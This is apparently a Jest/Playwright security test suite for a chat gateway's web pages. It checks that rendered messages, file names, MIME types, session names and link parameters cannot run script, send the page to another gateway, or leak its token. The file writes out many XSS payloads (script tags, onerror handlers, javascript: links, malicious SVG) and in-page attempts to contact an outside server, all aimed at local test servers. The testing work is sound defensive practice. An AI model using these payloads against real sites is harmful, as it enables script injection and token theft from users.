// Whoever writes links, messages, names and files is not whoever signed in: nothing of theirs may run, lead the page
// elsewhere, or get at what opens the gateway.
import { createServer as createHttp, type Server } from "node:http";
import { createServer, type AddressInfo } from "node:net";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { inChromium } from "../support/chromium.js";
import { connected, launch, SLOW_MS, TOKEN, WebDoor } from "../support/web-door.js";

const EVIL = `<img src=x onerror="globalThis.hacked=1"><script>globalThis.hacked=1</script><svg onload="globalThis.hacked=1"></svg>`;
const EVIL_MARKDOWN = [
  EVIL,
  "[one](javascript:globalThis.hacked=1) [two](JaVaScRiPt&colon;globalThis.hacked=1) [three](data:text/html,<script>globalThis.hacked=1</script>) [four](vbscript:x)",
  `![pic](javascript:globalThis.hacked=1) ![remote](http://127.0.0.1:1/pixel.png "${EVIL}")`,
  "<a href='javascript:globalThis.hacked=1'>five</a> <javascript:globalThis.hacked=1>",
  `[x]: javascript:globalThis.hacked=1 "t"\n\n[x]`,
  `\`\`\`"><img src=x onerror=globalThis.hacked=1>\n${EVIL}\n\`\`\``,
  `| ${EVIL} | b |\n|---|---|\n| ${EVIL} | [c](javascript:globalThis.hacked=1) |`,
  `- [ ] ${EVIL}\n> ${EVIL}\n\n# ${EVIL}`,
  "&lt;img src=x onerror=globalThis.hacked=1&gt; &#60;script&#62;globalThis.hacked=1&#60;/script&#62;",
].join("\n\n");

inChromium("the web pages under attack", () => {
  let browser: Browser;
  let door: WebDoor;
  let context: BrowserContext;
  let page: Page;

  beforeAll(async () => {
    [door, browser] = await Promise.all([
      WebDoor.open({
        script: ({ message }) =>
          message.startsWith("fail") ? [{ kind: "fail", failure: { reason: "network", message: `It broke: ${EVIL}` } }] : [{ kind: "call", tool: EVIL, args: { [EVIL]: EVIL }, callId: EVIL }, { kind: "say", text: EVIL_MARKDOWN }],
      }),
      launch(),
    ]);
    context = await door.profile(browser);
    page = await door.enter(context);
  }, SLOW_MS);
  afterEach(() => void door.complaints());
  afterAll(async () => {
    await browser?.close();
    await door?.close();
  }, SLOW_MS);

  /** Nothing ran, and nothing in the page could. */
  const expectInert = async (where: Page): Promise<void> => {
    expect(await where.evaluate("globalThis.hacked")).toBeUndefined();
    expect(await where.evaluate(`[...document.querySelectorAll("*")].flatMap((one) => [
      ...(one.matches("script:not([src]), iframe, object, embed, base, meta[http-equiv]") ? [one.outerHTML] : []),
      ...[...one.attributes].filter(({ name, value }) => name.startsWith("on") || name === "srcdoc" || (["href", "src", "action", "formaction", "xlink:href"].includes(name) && /^\\s*(javascript|vbscript|data:text)/i.test(value))).map(({ name, value }) => name + "=" + value),
    ])`)).toEqual([]);
  };

  describe("links to a page", () => {
    let evil: Server;
    let evilPort: number;
    const visitors: string[] = [];
    /** Where the victim's browser went, and what it said there. */
    const dialled: string[] = [];
    const said: string[] = [];
    let victim: Page;

    beforeAll(async () => {
      victim = await context.newPage();
      victim.on("request", (request) => dialled.push(request.url()));
      victim.on("websocket", (socket) => {
        dialled.push(socket.url());
        socket.on("framesent", ({ payload }) => said.push(String(payload)));
      });
      evil = createHttp((request, response) => {
        visitors.push(`${request.method} ${request.url} ${request.headers.upgrade ?? ""}`);
        response.end();
      });
      evil.on("upgrade", (request, socket) => {
        visitors.push(`upgrade ${request.url}`);
        socket.destroy();
      });
      await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
      evilPort = (evil.address() as AddressInfo).port;
    });
    afterAll(() => void evil?.close());
    beforeEach(() => {
      visitors.length = dialled.length = said.length = 0;
    });

    test.each<[string, (at: string) => string]>([
      ["gatewayUrl in the query", (at) => `?gatewayUrl=ws://${at}`],
      ["every name it may have", (at) => `?gatewayUrl=ws://${at}&url=ws://${at}&gateway=ws://${at}&wsUrl=ws://${at}&host=${at}&endpoint=ws://${at}&remote=ws://${at}`],
      ["in the fragment", (at) => `#gatewayUrl=ws://${at}&url=ws://${at}`],
      ["beside a token", (at) => `?gatewayUrl=ws://${at}#token=made-up&gatewayUrl=ws://${at}`],
      ["as a view's name", (at) => `#/overview?gatewayUrl=ws://${at}`],
    ])("lead it nowhere: %s", async (_name, linkFor) => {
      for (const path of ["/chat", "/"]) {
        await victim.goto("about:blank");
        await victim.goto(`${door.base}${path}${linkFor(`127.0.0.1:${evilPort}`)}`);
        await connected(victim);
      }
      expect(dialled.filter((url) => url !== "about:blank" && new URL(url).host !== `127.0.0.1:${door.port}`)).toEqual([]);
      expect(visitors).toEqual([]);
    }, SLOW_MS);

    test("a made-up token neither replaces the one that is kept nor is kept", async () => {
      const before = await victim.goto(`${door.base}/chat`).then(() => victim.evaluate("JSON.stringify({ ...localStorage })"));
      await victim.goto(`${door.base}/?x#token=made-up`);
      await connected(victim);
      expect(await victim.evaluate("JSON.stringify({ ...localStorage, ...sessionStorage })")).not.toContain("made-up");
      const pick = (text: unknown): unknown => Object.entries(JSON.parse(String(text)) as Record<string, string>).filter(([key]) => key.startsWith("openclaw-token"));
      expect(pick(await victim.evaluate("JSON.stringify({ ...localStorage })"))).toEqual(pick(before));
      expect(victim.url()).not.toContain("made-up");
    }, SLOW_MS);

    test("a session of any name is shown as that, and is none of the page's own words", async () => {
      await victim.goto(`${door.base}/chat?session=${encodeURIComponent(EVIL)}`);
      await connected(victim);
      await victim.locator("h1").filter({ hasText: "<img src=x" }).waitFor();
      await expectInert(victim);
      for (const name of ["__proto__", "constructor", "a\u202eb", "%00", "x".repeat(600)]) {
        await victim.goto(`${door.base}/chat?session=${encodeURIComponent(name)}`);
        await connected(victim);
        await victim.locator("talk-view").getByText("What can I do for you?").or(victim.getByRole("alert")).first().waitFor();
      }
    }, SLOW_MS);

    test("a stored token goes to the gateway that issued it, and to none behind another address", async () => {
      // Another gateway, on another port of the same host.
      const other = await WebDoor.open({ auth: { token: "another" } });
      const token = String(await page.evaluate("JSON.parse(Object.entries(localStorage).find(([key]) => key.startsWith('openclaw-token'))[1]).token"));
      expect(token.length).toBeGreaterThan(10);
      await victim.goto(`${other.base}/chat#token=${TOKEN}&gatewayUrl=${encodeURIComponent(door.base)}`);
      await victim.getByRole("alert").filter({ hasText: "This is not the gateway's token." }).waitFor();
      expect(said.length).toBeGreaterThan(0);
      expect(said.join()).not.toContain(token);
      await other.close();
    }, SLOW_MS);
  });

  describe("what others write", () => {
    test("stays text in answers, steps, notes, names, previews and errors", async () => {
      await door.call("chat.send", { sessionKey: "evil", message: EVIL_MARKDOWN, idempotencyKey: EVIL });
      await door.call("sessions.patch", { key: "agent:main:evil", label: `${EVIL.slice(0, 60)}` });
      await door.call("chat.inject", { sessionKey: "evil", message: EVIL_MARKDOWN, label: EVIL.slice(0, 90) });
      await page.goto(`${door.base}/chat?session=evil`);
      await page.getByRole("article", { name: "Note" }).waitFor();
      await page.locator("details.tool summary").first().click();
      await expectInert(page);
      expect(await page.locator("talk-view").textContent()).toContain("<script>globalThis.hacked=1</script>");
      expect(await page.locator("talk-view img").count()).toBe(0);
      const links = await page.locator("talk-view .prose a").evaluateAll((all) => all.map((one) => [one.getAttribute("href"), one.getAttribute("rel"), one.getAttribute("target")]));
      for (const [href, rel, target] of links) expect([/^https?:/.test(String(href)), rel, target]).toEqual([true, "noopener noreferrer", "_blank"]);
      await page.getByLabel("Message", { exact: true }).fill(`fail ${EVIL}`);
      await page.keyboard.press("Enter");
      await page.getByRole("alert").filter({ hasText: "It broke: <img" }).waitFor();
      await expectInert(page);
    }, SLOW_MS);

    test("so do files, whatever they are called and whatever they say they are", async () => {
      const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.hacked=1"><script>globalThis.hacked=1</script></svg>`).toString("base64");
      await door.call("chat.send", {
        sessionKey: "files", message: "files", idempotencyKey: "files",
        attachments: [
          { type: "image", mimeType: "image/svg+xml", fileName: EVIL, content: svg },
          { type: "image", mimeType: 'image/png"><script>globalThis.hacked=1</script>', fileName: "b", content: svg },
          { type: "image", mimeType: "image/png", fileName: `" onerror="globalThis.hacked=1`, content: svg },
          { type: "file", mimeType: "text/html", fileName: `${EVIL}.html`, content: svg },
        ],
      });
      await page.goto(`${door.base}/chat?session=files`);
      await page.locator("talk-view .message.you").waitFor();
      await page.locator('input[type="file"]').setInputFiles([{ name: `${EVIL.replaceAll("/", "")}.svg`, mimeType: "image/svg+xml", buffer: Buffer.from(svg, "base64") }]);
      await page.getByRole("list", { name: "Attached files" }).getByText("<img src=x").waitFor();
      await expectInert(page);
      // Only one of them says that it is a picture of a kind that runs nothing.
      expect(await page.locator("talk-view img").evaluateAll((all) => all.map((one) => one.getAttribute("src")?.slice(0, 22)))).toEqual(["data:image/png;base64,"]);
    }, SLOW_MS);
  });

  describe("what would get in all the same", () => {
    test("runs no code, reaches nobody else, and cannot even write markup", async () => {
      await page.goto(`${door.base}/chat`);
      await connected(page);
      // A browser may open a connection in advance; what counts is whether it says anything.
      const reached: string[] = [];
      const elsewhere = createServer((socket) => {
        socket.on("data", (bytes) => reached.push(bytes.toString("latin1").slice(0, 60)));
        socket.on("error", () => undefined);
      });
      await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
      const at = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
      const results = await page.evaluate(`(async () => {
        const tried = async (act) => { try { return String(await act()); } catch (error) { return "refused"; } };
        const inline = () => { const one = document.createElement("script"); one.text = "globalThis.hacked = 2"; document.body.append(one); return globalThis.hacked; };
        const remote = () => new Promise((resolve, reject) => { const one = document.createElement("img"); one.onload = () => resolve("loaded"); one.onerror = reject; one.src = "http://${at}/pixel"; });
        return {
          inline: await tried(inline),
          markup: await tried(() => { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); return "written"; }),
          fetch: await tried(() => fetch("http://${at}/")),
          beacon: await tried(() => { navigator.sendBeacon("http://${at}/", "x"); return "queued"; }),
          socket: await tried(() => new Promise((resolve, reject) => { const one = new WebSocket("ws://${at}/"); one.onopen = resolve; one.onerror = reject; })),
          picture: await tried(remote),
          frame: await tried(() => { const one = document.createElement("iframe"); one.src = "http://${at}/"; document.body.append(one); return "appended"; }),
          form: await tried(() => { const one = document.createElement("form"); one.action = "http://${at}/"; document.body.append(one); one.submit(); return "submitted"; }),
        };
      })()`) as Record<string, string>;
      expect(results).toMatchObject({ inline: "refused", markup: "refused", fetch: "refused", socket: "refused", picture: "refused" });
      expect(await page.evaluate("globalThis.hacked")).toBeUndefined();
      expect(page.url()).toBe(`${door.base}/chat`);
      expect(reached).toEqual([]);
      elsewhere.close();
    }, SLOW_MS);

    test("no other site can put a page into a frame, or hold on to its window", async () => {
      const site = createHttp((_request, response) => {
        response.writeHead(200, { "Content-Type": "text/html" }).end(`<!doctype html><iframe src="${door.base}/chat"></iframe>`);
      });
      await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", resolve));
      const attacker = await context.newPage();
      await attacker.goto(`http://localhost:${(site.address() as AddressInfo).port}/`);
      await attacker.waitForLoadState("load");
      const framed = attacker.frames()[1];
      expect(await framed?.locator("chat-page").count()).toBe(0);
      const popup = attacker.waitForEvent("popup");
      await attacker.evaluate(`globalThis.opened = window.open("${door.base}/chat"); undefined`);
      await connected(await popup);
      // It cannot be led elsewhere, nor asked for anything: to whoever opened it, it is closed.
      expect(await attacker.evaluate("globalThis.opened.closed")).toBe(true);
      await attacker.close();
      site.close();
    }, SLOW_MS);
  });
});
